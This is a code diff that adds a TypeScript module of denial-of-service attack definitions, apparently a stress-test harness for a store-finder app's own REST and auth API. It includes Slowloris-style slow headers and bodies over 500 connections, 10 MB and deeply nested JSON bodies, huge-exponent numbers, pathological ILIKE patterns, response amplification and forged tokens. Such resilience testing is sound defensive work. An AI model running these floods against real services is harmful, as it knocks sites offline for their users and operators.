@@ -1,0 +1,188 @@
+import { setTimeout as wait } from 'node:timers/promises'
+import type { Attacker } from './attacker.ts'
+
+export type Attack = {
+  name: string
+  run: (attacker: Attacker) => Promise<unknown>
+  /** Default: as long as every attack. */
+  durationMs?: number
+}
+
+const json = { 'content-type': 'application/json' }
+const lists = '/rest/v1/saved_lists'
+const representation = { prefer: 'return=representation' }
+/** As long as a list may be, and three times as long in bytes. */
+const longest = '\u20ac'.repeat(20_000)
+const hugeNumbers = `[${'1e131071,'.repeat(7_000)}1]`
+
+/** 4.2 MB of lists, in bodies that are not too large. */
+async function fillLists({ ask, shopper }: Attacker) {
+  for (let from = 0; from < 70; from += 14) {
+    const rows = Array.from({ length: 14 }, (_, index) => ({
+      id: `long-${from + index}`,
+      name: 'Weekly',
+      items: longest,
+    }))
+    const body = JSON.stringify(rows)
+    await ask({ path: lists, method: 'POST', headers: { ...shopper.headers, ...json }, body })
+  }
+}
+
+function repeated(part: (index: number) => string, times: number): string {
+  return Array.from({ length: times }, (_, index) => part(index)).join(',')
+}
+
+function readLists(select: string): Attack['run'] {
+  return async (attacker) => {
+    await fillLists(attacker)
+    const { headers } = attacker.shopper
+    await attacker.flood(20, { path: `${lists}?select=${select}`, headers })
+  }
+}
+
+/** So many connections, each with its own beginning, until the attack is over. */
+async function hold({ open, isOver }: Attacker, count: number, begin: string, drip: string) {
+  const sockets = Array.from({ length: count }, open)
+  for (const socket of sockets) socket.pause().write(begin)
+  while (!isOver()) {
+    await wait(500)
+    if (drip === '') continue
+    for (const socket of sockets) if (socket.writable) socket.write(drip)
+  }
+  for (const socket of sockets) socket.destroy()
+}
+
+function headText(headers: Record<string, string>): string {
+  return Object.entries({ Host: 'x', ...headers })
+    .map(([name, value]) => `${name}: ${value}\r\n`)
+    .join('')
+}
+
+export const attacks: Record<string, Attack> = {
+  none: {
+    name: 'No attack, to compare with',
+    run: async ({ isOver }) => {
+      while (!isOver()) await wait(500)
+    },
+  },
+  aliases: {
+    name: 'One long column under 27 names, 20 at once',
+    run: readLists(repeated((index) => `a${index}:items`, 27)),
+  },
+  stars: { name: '92 stars, 20 at once', run: readLists(repeated(() => '*', 92)) },
+  'large-answers': {
+    name: 'Answers beyond the limit, 20 at once',
+    run: readLists('a:items,b:items,c:items,d:items'),
+  },
+  'allowed-answers': {
+    name: 'The largest answers that are allowed, 20 at once',
+    run: readLists('id,items,created_at,updated_at'),
+  },
+  representation: {
+    name: 'Changes of all lists that ask for all of them back, 20 at once',
+    run: async (attacker) => {
+      await fillLists(attacker)
+      await attacker.flood(20, {
+        path: `${lists}?id=neq.0&select=a:items,b:items,c:items,d:items`,
+        method: 'PATCH',
+        headers: { ...attacker.shopper.headers, ...json, ...representation },
+        body: '{"name":"Party"}',
+      })
+    },
+  },
+  unread: {
+    name: '50 connections ask for 20 large answers each and read none',
+    run: async (attacker) => {
+      await fillLists(attacker)
+      const head = headText(attacker.shopper.headers)
+      const asked = `GET ${lists}?select=items HTTP/1.1\r\n${head}\r\n`
+      await hold(attacker, 50, asked.repeat(20), '')
+    },
+  },
+  numbers: {
+    name: "Bodies full of 1e131071, a visitor's and a shopper's, 20 at once",
+    run: async ({ flood, shopper }) => {
+      const headers = { ...json, prefer: 'missing=default' }
+      await Promise.all([
+        flood(10, {
+          path: '/rest/v1/waitlist',
+          method: 'POST',
+          headers,
+          body: `{"email":"ann@example.com","name":${hugeNumbers}}`,
+        }),
+        flood(10, {
+          path: '/rest/v1/last_used_stores',
+          method: 'POST',
+          headers: { ...headers, ...shopper.headers },
+          body: `{"store":{"a":${hugeNumbers}}}`,
+        }),
+      ])
+    },
+  },
+  scans: {
+    name: 'Visitors compare every store with slow patterns and count them, 20 at once',
+    run: ({ flood }) => {
+      const pattern = `ilike.*${'a*'.repeat(30)}x`
+      const filters = ['name', 'address', 'city'].map((column) => `${column}=${pattern}`)
+      const path = `/rest/v1/stores?${filters.join('&')}&order=name,address,city`
+      return flood(20, { path, headers: { prefer: 'count=exact' } })
+    },
+  },
+  searches: {
+    name: 'Searches for stores past the function, 50 at once',
+    run: ({ flood }) =>
+      flood(50, {
+        path: '/rest/v1/rpc/find_stores',
+        method: 'POST',
+        headers: json,
+        body: '{"latitude":39,"longitude":-98,"max_stores":50,"name_part":"zz"}',
+      }),
+  },
+  reads: {
+    name: 'Reads of a visitor, 100 at once',
+    run: ({ flood }) => flood(100, { path: '/rest/v1/stores?limit=1' }),
+  },
+  writes: {
+    name: 'Writes of a shopper, 50 at once',
+    run: ({ flood, shopper }) =>
+      flood(50, {
+        path: lists,
+        method: 'POST',
+        headers: { ...shopper.headers, ...json, prefer: 'resolution=merge-duplicates' },
+        body: '{"id":"1","name":"Weekly","items":"milk"}',
+      }),
+  },
+  bodies: {
+    name: 'Bodies of 10 MB, and nested ones of 1 MB, 20 at once',
+    run: async ({ flood }) => {
+      const large = `{"name":"${'x'.repeat(10_000_000)}"}`
+      const nested = `{"name":${'['.repeat(400_000)}${']'.repeat(400_000)}}`
+      const asked = { method: 'POST', headers: json }
+      await Promise.all([
+        flood(5, { path: '/rest/v1/waitlist', ...asked, body: large }),
+        flood(5, { path: '/auth/v1/signup', ...asked, body: large }),
+        flood(10, { path: '/rest/v1/waitlist', ...asked, body: nested }),
+      ])
+    },
+  },
+  tokens: {
+    name: 'Forged tokens, 50 at once',
+    run: ({ flood, shopper }) => {
+      const authorization = `${shopper.headers['authorization']?.slice(0, -4)}AAAA`
+      return flood(50, { path: lists, headers: { authorization } })
+    },
+  },
+  'slow-headers': {
+    name: '500 connections send a header byte by byte for 40 s',
+    durationMs: 40_000,
+    run: (attacker) => hold(attacker, 500, 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ', 'x'),
+  },
+  'slow-bodies': {
+    name: '500 connections send a body byte by byte for 40 s',
+    durationMs: 40_000,
+    run: (attacker) => {
+      const head = headText({ ...json, 'Content-Length': '1000' })
+      return hold(attacker, 500, `POST /rest/v1/waitlist HTTP/1.1\r\n${head}\r\n`, ' ')
+    },
+  },
+}
